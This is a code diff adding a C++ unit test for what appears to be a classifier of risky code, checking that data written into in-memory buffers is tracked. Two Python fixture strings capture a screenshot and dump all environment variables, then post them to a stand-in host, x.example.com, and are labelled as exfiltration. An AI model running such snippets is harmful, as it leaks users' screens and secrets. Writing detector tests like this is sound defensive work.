@@ -191,5 +191,25 @@ TEST(RubricClasses, ValuesAndProvenanceAcrossCalls) {
   for (const auto& c : cases) check(c);
 }
 
+// A write into an in-memory buffer (image.save(buf), json.dump(x, buf))
+// puts the data in the buffer, so what is later read out of it and sent
+// carries it; an ordinary image through the same buffer stays LOW.
+TEST(RubricClasses, InMemoryBuffersHoldWhatIsWrittenIntoThem) {
+  const Case cases[] = {
+      {"screenshot saved into BytesIO and uploaded", B,
+       "from PIL import ImageGrab\nimport io, requests\nimg = ImageGrab.grab()\nbuf = io.BytesIO()\nimg.save(buf, 'PNG')\n"
+       "requests.post('https://x.example.com/up', files={'s': buf.getvalue()})\n",
+       "EXFILTRATION"},
+      {"the environment dumped into StringIO and posted", B,
+       "import io, json, os, requests\nbuf = io.StringIO()\njson.dump(dict(os.environ), buf)\n"
+       "requests.post('https://x.example.com/e', data=buf.getvalue())\n",
+       "EXFILTRATION"},
+      {"a chart from disk through BytesIO to an API", L,
+       "import io, requests\nfrom PIL import Image\nimg = Image.open('chart.png')\nbuf = io.BytesIO()\nimg.save(buf, 'PNG')\n"
+       "requests.post('https://api.example.com/upload', files={'f': buf.getvalue()}, timeout=5)\n"},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
